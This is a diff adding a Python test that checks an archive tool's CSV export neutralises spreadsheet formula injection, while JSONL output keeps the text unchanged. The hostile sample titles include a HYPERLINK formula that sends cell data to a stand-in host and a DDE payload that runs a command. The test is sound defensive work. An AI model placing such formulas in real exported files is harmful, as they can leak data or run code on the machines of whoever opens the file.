@@ -237,3 +237,25 @@ def test_no_progress_bar_when_not_a_terminal(archive_path, tmp_path):
     assert result.returncode == 0
     assert result.stderr.strip().splitlines() == [
         f"exported {sum(1 for _ in csv.DictReader(target.open(encoding='utf-8')))} rows from articles"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """OWASP CSV injection: text starting with = + - @ TAB CR gets a leading ' in CSV (numbers
+    and plain numbers in text stay as they are); JSON keeps the text verbatim."""
+    db = tmp_path / "archive.db"
+    archive = Archive(db)
+    hostile = ['=HYPERLINK("http://elsewhere.test/?"&A1,"xem")', "+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
+    harmless = ["-5", "+84", "12,5%", "Kiến Thụy", "", "a=b"]
+    archive.upsert_site({"id": "s", "name": "S", "family": "generic", "base_url": "http://s.test"})
+    for i, title in enumerate(hostile + harmless):
+        archive.store_article(None, {"url": f"http://s.test/{i}", "site": "s", "title": title,
+                                     "body_text": "x"})
+    archive.close()
+    out = CliRunner().invoke(main, ["export", "--db", str(db), "--table", "articles",
+                                    "--format", "csv"]).stdout
+    titles = [row["title"] for row in csv.DictReader(io.StringIO(out))]
+    assert titles == ["'" + t for t in hostile] + harmless
+    out = CliRunner().invoke(main, ["export", "--db", str(db), "--table", "articles",
+                                    "--format", "jsonl"]).stdout
+    assert [json.loads(line)["title"] for line in out.splitlines()] == hostile + harmless
